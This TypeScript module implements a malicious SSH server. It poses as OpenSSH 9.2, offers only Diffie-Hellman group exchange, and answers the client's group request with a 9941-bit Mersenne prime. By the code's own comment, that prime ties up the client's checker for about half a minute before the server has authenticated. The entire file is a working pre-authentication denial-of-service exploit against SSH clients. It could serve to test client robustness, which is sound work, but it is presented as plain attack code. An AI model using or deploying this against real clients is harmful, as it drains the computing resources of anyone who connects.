import { randomBytes } from 'node:crypto'
import type { Socket } from 'node:net'

/** SSH_MSG_KEXINIT, SSH_MSG_KEX_DH_GEX_REQUEST and SSH_MSG_KEX_DH_GEX_GROUP (RFC 4253, RFC 4419). */
const KEXINIT = 20
const REQUEST = 34
const GROUP = 31

/**
 * Offers nothing but a group exchange, and then a "group" that costs its checker half a minute: a Mersenne prime of 9941
 * bits. All of this comes before the server has proven who it is.
 */
export function groupExchange(socket: Socket): boolean {
  socket.write('SSH-2.0-OpenSSH_9.2\r\n')
  const lists = [
    'diffie-hellman-group-exchange-sha256',
    'ssh-ed25519',
    ...['aes128-ctr', 'aes128-ctr', 'hmac-sha2-256', 'hmac-sha2-256', 'none', 'none', '', ''],
  ]
  socket.write(
    packet(Buffer.concat([Buffer.from([KEXINIT]), randomBytes(16), ...lists.map(string), Buffer.alloc(5)])),
  )
  let heard = Buffer.alloc(0)
  socket.on('data', (chunk: Buffer) => {
    heard = Buffer.concat([heard, chunk])
    // The request is the only short packet: length 20, padding 6, its number.
    const at = heard.indexOf(Buffer.from([0, 0, 0, 20, 6, REQUEST]))
    if (at < 0) return
    heard = Buffer.alloc(0)
    const prime = Buffer.alloc(1243, 0xff)
    prime[0] = 0x1f
    socket.write(packet(Buffer.concat([Buffer.from([GROUP]), string(prime), string(Buffer.from([2]))])))
  })
  return true
}

function string(text: string | Buffer): Buffer {
  const bytes = Buffer.from(text)
  const length = Buffer.alloc(4)
  length.writeUInt32BE(bytes.length)
  return Buffer.concat([length, bytes])
}

/** A packet before there are keys: length, padding, payload (RFC 4253, section 6). */
function packet(payload: Buffer): Buffer {
  const short = 8 - ((payload.length + 5) % 8)
  const padding = short < 4 ? short + 8 : short
  const head = Buffer.alloc(5)
  head.writeUInt32BE(payload.length + padding + 1)
  head[4] = padding
  return Buffer.concat([head, payload, Buffer.alloc(padding)])
}
